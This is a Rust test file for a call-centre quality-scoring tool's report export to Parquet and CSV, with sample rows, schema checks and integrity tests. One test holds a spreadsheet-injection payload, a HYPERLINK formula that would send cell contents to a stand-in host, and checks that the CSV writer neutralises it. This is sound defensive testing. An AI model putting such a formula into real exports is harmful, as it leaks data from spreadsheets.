use super::*;

pub(crate) fn sample_tables() -> Tables {
    let run_id = "r1".to_owned();
    Tables {
        calls: vec![CallRow {
            run_id: run_id.clone(),
            call_id: "c0001".into(),
            path: "fixtures/audio/A1001_20261102-093015_c0001.wav".into(),
            agent_id: "A1001".into(),
            agent_name: Some("王芳".into()),
            team: None,
            started_at: "2026-11-02T09:30:15+08:00[Asia/Shanghai]".parse().unwrap(),
            direction: Some("inbound".into()),
            layout: "agent-left".into(),
            duration_ms: 44_800,
            agent_speech_ms: 20_000,
            customer_speech_ms: 12_000,
            segments: 12,
            findings: 2,
            findings_counted: 1,
            findings_capped: 0,
            findings_rejected: 1,
            score_base: 100.0,
            deducted: 2.0,
            score: 98.0,
            fatal: false,
            pack_version: "2026.11.23-2".into(),
            rubric_version: "2026.11.23".into(),
            model_sha256: "ab".into(),
        }],
        segments: vec![SegmentRow {
            run_id: run_id.clone(),
            call_id: "c0001".into(),
            index: 0,
            role: "agent".into(),
            start_ms: 600,
            end_ms: 3_100,
            text: "您好，这里是客服中心，请问有什么可以帮您？".into(),
            avg_token_prob: 0.91,
            no_speech_prob: 0.01,
        }],
        findings: vec![FindingRow {
            run_id: run_id.clone(),
            finding_id: "0123456789abcdef".into(),
            call_id: "c0001".into(),
            agent_id: "A1001".into(),
            rule_id: "forbidden.reply".into(),
            rule_name: "回复忌语".into(),
            pack_version: "2026.11.23-2".into(),
            category: "forbidden".into(),
            kind: "forbidden".into(),
            severity: "minor".into(),
            rubric_points: 2.0,
            deducted: 2.0,
            status: "counted".into(),
            reason: None,
            review_verdict: Some("confirm".into()),
            reviewer: Some("李娜".into()),
            audit: Some("confirm by 李娜: 确认, \"引号\"\n换行".into()),
            role: "agent".into(),
            start_ms: 12_000,
            end_ms: 13_000,
            matched_text: "你自己去看".into(),
            normalized_text: "你自己去看".into(),
            match_mode: Some("exact".into()),
            similarity: Some(1.0),
            value: None,
            detail: String::new(),
            utterance_start_ms: Some(11_500),
            utterance_end_ms: Some(14_000),
            utterance: Some("[agent] 你自己去看吧".into()),
            context_before: None,
            context_after: Some("[customer] 好吧".into()),
            trigger: None,
        }],
        scorecards: vec![ScorecardRow {
            run_id: run_id.clone(),
            period_kind: "month".into(),
            period: "2026-11".into(),
            period_start: jiff::civil::date(2026, 11, 1),
            agent_id: "A1001".into(),
            agent_name: Some("王芳".into()),
            team: Some("一组".into()),
            calls: 1,
            findings_counted: 1,
            findings_capped: 0,
            findings_rejected: 1,
            minor: 1,
            medium: 0,
            severe: 0,
            fatal_findings: 0,
            base: 80.0,
            deducted: 2.0,
            escalation: 0.0,
            escalation_notes: String::new(),
            bonus: 5.0,
            bonus_items: "no_medium".into(),
            adjustment: 0.0,
            adjustment_reason: None,
            adjusted_by: None,
            uncapped: 83.0,
            score: 83.0,
            grade: "b".into(),
            failed: false,
            fail_reason: String::new(),
            in_grace: false,
            pay_float: Some(30.0),
            rank_in_team: 1,
            rank_overall: 1,
            rubric_version: "2026.11.23".into(),
            pay_period: true,
            coverage: "per 10 calls".into(),
            calls_scored: 1,
            sampled_calls: String::new(),
            scale: 10.0,
            mean_call_score: 98.0,
            categories: "forbidden 1".into(),
            raw_deducted: 0.2,
            bonus_names: "当月无中度及以上违规 +5".into(),
        }],
        errors: vec![ErrorRow {
            run_id,
            file: "fixtures/audio/broken.wav".into(),
            call_id: None,
            stage: "ingest".into(),
            reason: "name matches no pattern".into(),
        }],
    }
}

pub(crate) fn sample_meta() -> ReportMeta {
    ReportMeta {
        format: REPORT_FORMAT,
        run_id: "r1".into(),
        generated_at: "2026-11-23T12:00:00+08:00".into(),
        producer: "callqa test".into(),
        pack: "zh-cn".into(),
        pack_version: "2026.11.23-2".into(),
        rubric_version: "2026.11.23".into(),
        model_sha256: None,
        timezone: "Asia/Shanghai".into(),
        redacted: false,
        files: Vec::new(),
    }
}

#[test]
fn a_report_set_round_trips_through_parquet() {
    let d = tempfile::tempdir().unwrap();
    let meta = write(d.path(), sample_meta(), &sample_tables(), CsvOptions::default()).unwrap();
    assert_eq!(meta.files.len(), 10);
    let (back_meta, back) = read(d.path()).unwrap();
    assert_eq!(back_meta, meta);
    assert_eq!(back, sample_tables());
    // Zoned compares instants only: the zone comes back from the file too.
    assert_eq!(back.calls[0].started_at.to_string(), "2026-11-02T09:30:15+08:00[Asia/Shanghai]");
}

/// The columns' Parquet types: a timestamp with the site's zone, a date, and strings, numbers
/// and booleans, in the order declared.
#[test]
fn instants_are_zoned_timestamps_and_days_are_dates() {
    let d = tempfile::tempdir().unwrap();
    write(d.path(), sample_meta(), &sample_tables(), CsvOptions::default()).unwrap();
    let schema = |name: &str| ParquetReader::new(std::fs::File::open(d.path().join(format!("{name}.parquet"))).unwrap()).finish().unwrap().schema().clone();
    let calls = schema("calls");
    let tz = TimeZone::opt_try_new(Some("Asia/Shanghai")).unwrap();
    assert_eq!(calls.get("started_at"), Some(&DataType::Datetime(TimeUnit::Microseconds, tz)));
    assert_eq!(calls.get("fatal"), Some(&DataType::Boolean));
    assert_eq!(calls.get("call_id"), Some(&DataType::String));
    let cards = schema("scorecards");
    assert_eq!(cards.get("period_start"), Some(&DataType::Date));
    assert_eq!(cards.get("fatal_findings"), Some(&DataType::Int64));
    assert_eq!(cards.get("fatal"), None, "one name, one type: `fatal` is the calls table's flag");
}

/// The Arrow schema in each file is Arrow's oldest level (strings `large_string`), not the
/// `string_view` one polars embeds by default, which readers before pyarrow 15 cannot parse.
/// (tests/report_compat.rs reads the files with pyarrow 14 itself.)
#[test]
fn parquet_files_embed_the_oldest_arrow_schema() {
    let d = tempfile::tempdir().unwrap();
    write(d.path(), sample_meta(), &sample_tables(), CsvOptions::default()).unwrap();
    let tz = jiff::tz::TimeZone::get("Asia/Shanghai").unwrap();
    let mut file = std::fs::File::open(d.path().join("calls.parquet")).unwrap();
    let footer = polars_parquet::read::read_metadata(&mut file).unwrap();
    let kv = footer.key_value_metadata().as_ref().unwrap();
    let embedded: Vec<_> = kv.iter().filter(|kv| kv.key == "ARROW:schema").collect();
    assert_eq!(embedded.len(), 1, "{kv:?}");
    let frame = CallRow::to_frame(&sample_tables().calls, &table::Target::parquet(&tz)).unwrap();
    let oldest = polars_parquet::write::schema_to_metadata_key(&frame.schema().to_arrow(CompatLevel::oldest()));
    let newest = polars_parquet::write::schema_to_metadata_key(&frame.schema().to_arrow(CompatLevel::newest()));
    assert_eq!(embedded[0].value, oldest.value);
    assert_ne!(oldest.value, newest.value);
}

/// CSV and Parquet must hold the same rows: the Parquet rows read back and encoded for CSV
/// (instants and days as text) equal the CSV file read with that schema.
#[test]
fn csv_holds_the_same_rows_as_parquet() {
    fn same<T: Table>(dir: &Path) {
        let tz = jiff::tz::TimeZone::get("Asia/Shanghai").unwrap();
        let rows: Vec<T> = read_table(dir).unwrap();
        let want = T::to_frame(&rows, &table::Target::csv(&tz)).unwrap();
        let csv = CsvReadOptions::default()
            .with_has_header(true)
            .with_schema(Some(want.schema().clone()))
            .try_into_reader_with_file_path(Some(dir.join(format!("{}.csv", T::NAME))))
            .unwrap()
            .finish()
            .unwrap();
        assert!(csv.equals_missing(&want), "{}: csv {csv:?} parquet {want:?}", T::NAME);
    }
    for bom in [true, false] {
        let d = tempfile::tempdir().unwrap();
        write(d.path(), sample_meta(), &sample_tables(), CsvOptions { bom }).unwrap();
        same::<CallRow>(d.path());
        same::<SegmentRow>(d.path());
        same::<FindingRow>(d.path());
        same::<ScorecardRow>(d.path());
        same::<ErrorRow>(d.path());
        let calls = std::fs::read_to_string(d.path().join("calls.csv")).unwrap();
        assert!(calls.contains(",2026-11-02 09:30:15+08:00,"), "{calls}");
        let cards = std::fs::read_to_string(d.path().join("scorecards.csv")).unwrap();
        assert!(cards.contains(",2026-11-01,"), "{cards}");
    }
}

#[test]
fn csv_starts_with_a_byte_order_mark_unless_told_not_to() {
    let d = tempfile::tempdir().unwrap();
    write(d.path(), sample_meta(), &sample_tables(), CsvOptions::default()).unwrap();
    let bytes = std::fs::read(d.path().join("calls.csv")).unwrap();
    assert!(bytes.starts_with(b"\xEF\xBB\xBFrun_id,call_id,"));
    let plain = tempfile::tempdir().unwrap();
    write(plain.path(), sample_meta(), &sample_tables(), CsvOptions { bom: false }).unwrap();
    assert!(std::fs::read(plain.path().join("calls.csv")).unwrap().starts_with(b"run_id,call_id,"));
}

#[test]
fn a_set_of_an_older_format_is_refused_with_what_to_do() {
    let d = tempfile::tempdir().unwrap();
    write(d.path(), ReportMeta { format: 1, ..sample_meta() }, &sample_tables(), CsvOptions::default()).unwrap();
    let err = read(d.path()).unwrap_err().to_string();
    assert!(err.contains("report.json") && err.contains("report format 1") && err.contains("score the run again"), "{err}");
}

#[test]
fn an_unknown_time_zone_is_named() {
    let d = tempfile::tempdir().unwrap();
    let err = write(d.path(), ReportMeta { timezone: "Mars/Olympus".into(), ..sample_meta() }, &sample_tables(), CsvOptions::default()).unwrap_err();
    assert!(err.to_string().contains("Mars/Olympus"), "{err}");
}

#[test]
fn a_run_directory_and_its_reports_folder_both_locate_the_set() {
    let d = tempfile::tempdir().unwrap();
    write(&d.path().join("reports"), sample_meta(), &sample_tables(), CsvOptions::default()).unwrap();
    assert_eq!(locate(d.path()).unwrap(), d.path().join("reports"));
    assert_eq!(locate(&d.path().join("reports")).unwrap(), d.path().join("reports"));
    let err = locate(&d.path().join("nowhere")).unwrap_err().to_string();
    assert!(err.contains("nowhere") && err.contains("report.json"), "{err}");
}

#[test]
fn formula_looking_cells_are_text_in_csv_and_raw_in_parquet() {
    let d = tempfile::tempdir().unwrap();
    let mut t = sample_tables();
    let evil = r#"=HYPERLINK("http://x.example/?leak="&B2,"x")"#;
    t.calls[0].agent_name = Some(evil.into());
    t.calls[0].team = Some("+1".into());
    t.findings[0].detail = "@SUM(A1)".into();
    t.findings[0].reviewer = Some("-2+3".into());
    t.errors[0].reason = "\tcmd".into();
    write(d.path(), sample_meta(), &t, CsvOptions::default()).unwrap();
    let calls = std::fs::read_to_string(d.path().join("calls.csv")).unwrap();
    assert!(calls.contains("'=HYPERLINK") && calls.contains("'+1") && !calls.contains(",=HYPERLINK"), "{calls}");
    let findings = std::fs::read_to_string(d.path().join("findings.csv")).unwrap();
    assert!(findings.contains("'@SUM(A1)") && findings.contains("'-2+3"), "{findings}");
    assert!(std::fs::read_to_string(d.path().join("errors.csv")).unwrap().contains("'\tcmd"));
    let (_, back) = read(d.path()).unwrap();
    assert_eq!(back.calls[0].agent_name.as_deref(), Some(evil), "Parquet keeps the raw value");
    for s in ["=1", "+1", "-1", "@a", "\t", "\r"] {
        assert!(looks_like_formula(s), "{s:?}");
    }
    for s in ["1-2", "王芳", "", " =x"] {
        assert!(!looks_like_formula(s), "{s:?}");
    }
}

#[test]
fn a_set_mixing_two_writes_is_refused_and_stray_temp_files_go() {
    let d = tempfile::tempdir().unwrap();
    let first = write(d.path(), sample_meta(), &sample_tables(), CsvOptions::default()).unwrap();
    // A writer killed after replacing scorecards.parquet but before report.json: the old
    // report.json lists the old file's hash.
    let mut t = sample_tables();
    t.scorecards[0].score = 12.0;
    let other = tempfile::tempdir().unwrap();
    write(other.path(), sample_meta(), &t, CsvOptions::default()).unwrap();
    std::fs::copy(other.path().join("scorecards.parquet"), d.path().join("scorecards.parquet")).unwrap();
    std::fs::write(d.path().join(".tmpAbC123"), b"half a file").unwrap();
    let err = read(d.path()).unwrap_err().to_string();
    assert!(err.contains("scorecards.parquet") && err.contains("does not match report.json") && err.contains(&first.run_id), "{err}");
    // Writing again makes it whole, and removes what the killed writer left.
    write(d.path(), sample_meta(), &sample_tables(), CsvOptions::default()).unwrap();
    assert!(read(d.path()).is_ok());
    assert!(!d.path().join(".tmpAbC123").exists());
}

/// examples/README.md documents every table's columns in order; this keeps the two in step.
#[test]
fn the_readme_documents_every_column() {
    let readme = std::fs::read_to_string(concat!(env!("CARGO_MANIFEST_DIR"), "/examples/README.md")).unwrap();
    for (name, cols) in [
        (CallRow::NAME, CallRow::COLUMNS),
        (SegmentRow::NAME, SegmentRow::COLUMNS),
        (FindingRow::NAME, FindingRow::COLUMNS),
        (ScorecardRow::NAME, ScorecardRow::COLUMNS),
        (ErrorRow::NAME, ErrorRow::COLUMNS),
    ] {
        let want: Vec<String> = cols.iter().map(|(c, t)| format!("| `{c}` | {t} |")).collect();
        let start = readme.find(&format!("#### `{name}`")).unwrap_or_else(|| panic!("README has no `#### `{name}`` section"));
        let section = &readme[start..];
        let section = &section[..section[5..].find("####").map(|i| i + 5).unwrap_or(section.len())];
        let got: Vec<String> = section
            .lines()
            .filter(|l| l.starts_with("| `"))
            .map(|l| l.splitn(4, '|').take(3).collect::<Vec<_>>().join("|").trim_end().to_owned() + " |")
            .collect();
        assert_eq!(got, want, "README table for {name}");
    }
}
